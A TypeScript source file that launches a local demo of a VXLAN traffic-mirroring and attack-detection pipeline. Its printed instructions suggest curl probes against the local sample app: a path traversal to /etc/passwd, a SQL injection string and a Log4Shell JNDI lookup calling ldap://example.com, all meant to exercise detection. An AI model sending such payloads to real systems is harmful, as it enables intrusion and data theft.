import type { StatusSource } from '../status/status-source.ts';
import { checkNamedPorts, type DemoPort, startOn } from './demo-port.ts';
import { NodeStandIn, type ReceivedRequest } from './node-stand-in.ts';
import { startSampleApp } from './sample-app.ts';
import { SoftwareMirror } from './software-mirror.ts';

export const DEMO_VNI = 1377;

/** What the demo needs of the real service: the same pipeline as in production, started with the demo's addresses. */
interface DemoRebuilder {
  /** UDP port of its VXLAN socket on 127.0.0.1. */
  readonly vxlanPort: number;
  /** `host:port` of the status page. */
  readonly statusAddress: string;
  stop(): Promise<void>;
}

/**
 * Starts the service: VXLAN on 127.0.0.1 (any free port), delivery to `endpoint`, and the status page on `statusPort`,
 * which flags what `attackIn` names.
 */
export type StartRebuilder = (options: {
  readonly endpoint: string;
  readonly vni: number;
  readonly statusPort: number;
  readonly attackIn: NonNullable<StatusSource['attackIn']>;
}) => Promise<DemoRebuilder>;

interface DemoPorts {
  /** Where the sample app is reached. */
  readonly app: DemoPort;
  readonly status: DemoPort;
}

interface Demo {
  readonly appUrl: string;
  readonly statusUrl: string;
  received(): readonly ReceivedRequest[];
  stop(): Promise<void>;
}

/**
 * Client -> software mirror -> sample app, the mirror's copy as real VXLAN over UDP -> rebuilder -> stand-in for the
 * detection node. Default ports that are taken are replaced by free ones; for named ones it rejects with a
 * `DemoPortError`. Rejects with nothing left running.
 */
export async function startDemo(
  startRebuilder: StartRebuilder, ports: DemoPorts, write: (text: string) => void,
): Promise<Demo> {
  await checkNamedPorts([ports.app, ports.status]);
  const started: { stop(): Promise<void> }[] = [];
  const stop = async (): Promise<void> => {
    for (const one of started.splice(0).reverse()) await one.stop();
  };
  const keep = <T extends { stop(): Promise<void> }>(one: T): T => {
    started.push(one);
    return one;
  };
  try {
    const node = keep(await NodeStandIn.start('127.0.0.1', 0, (request) => write(receivedLine(request))));
    const rebuilder = keep(await startOn(ports.status, (statusPort) => startRebuilder({
      endpoint: `http://127.0.0.1:${node.port}`, vni: DEMO_VNI, statusPort, attackIn: (id, isSecondReading) => node.attackIn(id, isSecondReading),
    })));
    const app = keep(await startSampleApp());
    const mirror = keep(await startOn(ports.app, (port) => SoftwareMirror.start({
      listen: { host: '127.0.0.1', port },
      app: { host: '127.0.0.1', port: app.port },
      rebuilder: { host: '127.0.0.1', port: rebuilder.vxlanPort },
      vni: DEMO_VNI,
    })));
    const demo = { appUrl: `http://127.0.0.1:${mirror.port}`, statusUrl: `http://${rebuilder.statusAddress}/`, received: () => node.received(), stop };
    write(introduction(demo, rebuilder.vxlanPort, node.port));
    return demo;
  } catch (error) {
    await stop();
    throw error;
  }
}

function introduction(
  { appUrl, statusUrl }: { appUrl: string; statusUrl: string }, vxlanPort: number, nodePort: number,
): string {
  return `
The rebuilder, on this machine only: no AWS, no root.

  sample app       ${appUrl}
  its mirror       VXLAN, VNI ${DEMO_VNI}, to UDP 127.0.0.1:${vxlanPort}
  rebuilder        turns the packets back into requests
  detection node   http://127.0.0.1:${nodePort} (a stand-in: it lists what it gets)
  status page      ${statusUrl}

Try in another terminal:

  curl ${appUrl}/api/users
  curl -d name=Ada ${appUrl}/api/users
  curl ${appUrl}/etc/passwd          # the path traversal test
  curl "${appUrl}/api/users?id=1'%20or%201=1--"
  curl -H 'User-Agent: \${jndi:ldap://example.com/a}' ${appUrl}/

What the detection node receives is listed here, and on the status page with the\nheads and the answers of the app. Ctrl-C ends the demo.

`;
}

/** One line of at most 80 columns; control characters of the network never reach the terminal. */
export function receivedLine({ timeMs, method, target, clientAddress, attack, reading }: ReceivedRequest): string {
  const time = new Date(timeMs).toISOString().slice(11, 19);
  const flag = `${reading === '' ? '' : `  (reading ${reading})`}${attack === null ? '' : `  <- ${attack}`}`;
  const start = `  ${time}  ${clientAddress.padEnd(15)}  ${method} `;
  const room = Math.max(8, 80 - start.length - flag.length);
  const shown = target.length > room ? `${target.slice(0, room - 1)}…` : target;
  return `${(start + shown + flag).replace(/[^\x20-\x7e…]/g, '?')}\n`;
}
